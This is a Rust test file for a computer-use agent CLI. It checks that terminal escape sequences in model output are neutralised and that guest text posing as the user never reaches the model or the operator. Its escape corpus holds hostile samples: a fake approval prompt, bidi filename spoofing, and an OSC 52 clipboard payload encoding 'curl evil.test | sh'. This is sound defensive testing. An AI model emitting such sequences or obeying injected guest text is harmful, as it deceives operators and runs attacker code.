//! Terminal safety, guest text, storage, commentary (docs/contract.md
//! rules 23b, 23a, 17a, 13a)

use super::*;

/// Escape sequences a page, the guest or a model could try to print.
fn escape_corpus() -> Vec<String> {
    let mut c: Vec<String> = [
        "\x1b[2J\x1b[H",                              // CSI: clear the screen, home
        "\x1b[1A\x1b[2KApprove? Type `yes`: ",        // CSI: a fake prompt
        "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07", // OSC 52: the clipboard
        "\x07\x07",                                   // BEL
        "oops\x08\x08\x08\x08",                       // backspaces
        "fine\rEVIL",                                 // CR
        "\u{202e}exe.fdp",                            // a bidi override
        "\u{2066}x\u{2069}",                          // bidi isolates
    ]
    .into_iter()
    .map(str::to_string)
    .collect();
    c.push((0x80u32..=0x9f).filter_map(char::from_u32).collect()); // C1
    c
}

/// Whether a terminal would interpret anything in `s`.
fn terminal_would_interpret(s: &str) -> bool {
    s.chars().any(|c| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn terminal_the_printed_summary_neutralises_escape_sequences_in_the_models_answer() {
    for evil in escape_corpus() {
        let rig = Rig::new().await;
        rig.mock
            .push(Reply::done(&format!("All done. {evil} Trust me.")));
        let mut op = ScriptedOp::new(rig.probe());
        let run = rig.run(rig.opts(), &mut op).await;
        run.assert_ending(Ending::Finished);
        // The outcome keeps the model's words as they were...
        assert!(run.outcome.message.contains(&evil));
        // ...and what reaches the terminal shows them, inert.
        let printed = host_cli::agent::cmd::summary(&run.outcome, &run.dir);
        assert!(
            !terminal_would_interpret(&printed),
            "{evil:?} reached the terminal: {printed:?}"
        );
        assert!(printed.contains("All done.") && printed.contains("Trust me."));
        rig.assert_mock_clean();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guest_text_never_speaks_as_the_user_nor_reaches_the_terminal() {
    for on_error in [OnActionError::Report, OnActionError::Stop] {
        for mode in [Garbage::SpeaksAsTheUser, Garbage::CodeSpeaksAsTheUser] {
            let rig = Rig::new().await;
            let daemon = GarbageDaemon::start(mode).await;
            rig.mock.push_all([
                Reply::output(vec![computer_call("call_1", vec![click(10, 20)])]),
                Reply::done("done"),
            ]);
            let mut model = rig.model(false, fast_retry());
            let mut channel = daemon.channel().await;
            let mut op = ScriptedOp::new(rig.probe());
            let mut opts = rig.opts();
            opts.on_action_error = on_error;
            let run = drive(
                &rig.new_run_dir(),
                &mut model,
                &mut channel,
                opts,
                &mut op,
                Interrupt::default(),
            )
            .await;
            let case = format!("{mode:?}, {on_error:?}");
            assert_eq!(daemon.state.acts.load(Ordering::SeqCst), 1, "{case}");
            // Not in anything the model read...
            assert_eq!(
                rig.mock.occurrences(GUEST_INSTRUCTION),
                Vec::<String>::new(),
                "{case}"
            );
            // ...nor in anything printed for the operator.
            let printed = host_cli::agent::cmd::summary(&run.outcome, &run.dir);
            assert!(
                !printed.contains(GUEST_INSTRUCTION)
                    && !run.outcome.message.contains(GUEST_INSTRUCTION),
                "{case}: {printed}"
            );
            assert!(op.asked.is_empty());
            match (mode, on_error) {
                (Garbage::SpeaksAsTheUser, OnActionError::Report) => {
                    // The model hears what happened in our words: the
                    // code, which action, how many ran.
                    run.assert_ending(Ending::Finished);
                    let reqs = rig.mock.requests();
                    let note = user_text(reqs[1].input().last().unwrap())
                        .unwrap()
                        .to_string();
                    assert!(
                        note.contains("Action 0 (click) of computer call call_1")
                            && note.contains("`invalid_action`")
                            && note.contains("0 of its 1 action(s) ran"),
                        "{note}"
                    );
                }
                (Garbage::SpeaksAsTheUser, OnActionError::Stop) => {
                    run.assert_ending(Ending::ActionFailed);
                    assert!(
                        run.outcome.message.contains("invalid_action"),
                        "{}",
                        run.outcome.message
                    );
                }
                _ => {
                    // Not a code we know: the reply is invalid, its outcome
                    // unknown.
                    run.assert_ending(Ending::Failed);
                    assert_eq!(run.ledger("call_1"), ["pending", "unknown"]);
                    assert!(
                        run.outcome.message.contains("unreadable error"),
                        "{}",
                        run.outcome.message
                    );
                }
            }
            rig.assert_mock_clean();
        }
    }
}

/// An assistant message marked as intermediate commentary.
fn commentary(text: &str) -> Value {
    let mut m = message(text);
    m["phase"] = json!("commentary");
    m
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_commentary_only_reply_is_not_a_final_answer() {
    let mut unfinished = message("I will now click the subm");
    unfinished["status"] = json!("incomplete");
    let cases: Vec<(&str, Reply, Option<&str>)> = vec![
        (
            "commentary only",
            Reply::output(vec![
                reasoning("The form is filled."),
                commentary("Next I will press Submit."),
            ]),
            Some("Next I will press Submit."),
        ),
        (
            "an unfinished message",
            Reply::Output(sandtop_testkit::mock_responses::Output {
                items: vec![unfinished],
                usage: Some(usage(10, 5)),
                status: "incomplete".into(),
                id: None,
            }),
            Some("incomplete"),
        ),
        ("nothing at all", Reply::output(vec![]), None),
    ];
    for (name, reply, says) in cases {
        let rig = Rig::new().await;
        rig.mock.push_all([
            Reply::output(vec![computer_call("call_1", vec![click(10, 20)])]),
            reply,
            Reply::done("unused"),
        ]);
        let mut opts = rig.opts();
        opts.store = false;
        let mut op = ScriptedOp::new(rig.probe());
        let run = rig.run(opts, &mut op).await;
        assert_eq!(
            run.outcome.ending,
            Ending::NoFinalAnswer,
            "{name}: {}",
            run.outcome.message
        );
        assert!(
            run.outcome.message.contains("without a final answer"),
            "{name}: {}",
            run.outcome.message
        );
        if let Some(says) = says {
            assert!(
                run.outcome.message.contains(says),
                "{name}: {}",
                run.outcome.message
            );
        }
        assert_eq!(rig.mock.requests().len(), 2, "{name}");
        let exit = host_cli::agent::cmd::exit_status(run.outcome.ending);
        assert!(exit != 0 && exit != host_cli::agent::cmd::exit_status(Ending::Failed));
        // The trajectory says how it ended, and a resume would not go on.
        assert_eq!(run.of_kind("run_finished")[0]["ending"], "no_final_answer");
        assert!(resume_point(&run.dir).unwrap().finished, "{name}");
        rig.assert_mock_clean();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn commentary_before_a_final_answer_is_left_out_of_it() {
    let rig = Rig::new().await;
    let mut last = message("Submitted.");
    last["phase"] = json!("final_answer");
    rig.mock
        .push(Reply::output(vec![commentary("Checking once more."), last]));
    let mut op = ScriptedOp::new(rig.probe());
    let run = rig.run(rig.opts(), &mut op).await;
    run.assert_ending(Ending::Finished);
    assert_eq!(run.outcome.message, "Submitted.");
    rig.assert_mock_clean();
}

/// The loop options `host-cli run` builds from this command line.
fn cli_run_options(args: &[&str]) -> RunOptions {
    use clap::Parser as _;
    let mut argv = vec!["host-cli", "run"];
    argv.extend_from_slice(args);
    match host_cli::cli::Cli::try_parse_from(argv).unwrap().command {
        host_cli::cli::Command::Run(a) => host_cli::agent::cmd::run_options(&a).unwrap(),
        other => panic!("{other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn storage_is_never_enabled_unless_the_operator_asks() {
    for args in [
        &["Fill in the contact form and submit it."][..],
        &["--no-store", "Fill in the contact form and submit it."][..],
    ] {
        let rig = Rig::new().await;
        rig.mock.push_all([
            Reply::output(vec![
                reasoning("The name first."),
                computer_call("call_1", vec![click(10, 20)]),
            ]),
            Reply::output(vec![computer_call("call_2", vec![type_text("a@b.c")])]),
            Reply::done("done"),
        ]);
        let opts = cli_run_options(args);
        assert!(!opts.store, "{args:?}");
        let mut op = ScriptedOp::new(rig.probe());
        let run = rig.run(opts, &mut op).await;
        run.assert_ending(Ending::Finished);
        let reqs = rig.mock.requests();
        assert_eq!(reqs.len(), 3);
        for (k, r) in reqs.iter().enumerate() {
            // Never stored, never chained: the conversation goes whole.
            assert_eq!(r.body["store"], false, "{args:?} request {}", r.n);
            assert_eq!(r.previous_response_id(), None, "{args:?} request {}", r.n);
            if k > 0 {
                let before = reqs[k - 1].input();
                assert_eq!(r.input()[..before.len()], before[..], "request {}", r.n);
                assert!(r.input().len() > before.len() + 1, "request {}", r.n);
            }
        }
        rig.assert_mock_clean();
    }
    // --store opts in: stored responses, chained by previous_response_id.
    let rig = Rig::new().await;
    rig.mock.push_all([
        Reply::output(vec![computer_call("call_1", vec![click(10, 20)])]),
        Reply::done("done"),
    ]);
    let opts = cli_run_options(&["--store", "Fill in the contact form and submit it."]);
    assert!(opts.store);
    let mut op = ScriptedOp::new(rig.probe());
    let run = rig.run(opts, &mut op).await;
    run.assert_ending(Ending::Finished);
    let reqs = rig.mock.requests();
    assert_eq!(reqs[0].body["store"], true);
    assert_eq!(
        reqs[1].previous_response_id(),
        reqs[0].response_id().as_deref()
    );
    assert_eq!(reqs[1].input().len(), 1);
    rig.assert_mock_clean();
    // Both at once is a contradiction, refused.
    use clap::Parser as _;
    assert!(
        host_cli::cli::Cli::try_parse_from(["host-cli", "run", "--store", "--no-store", "t"])
            .is_err()
    );
}
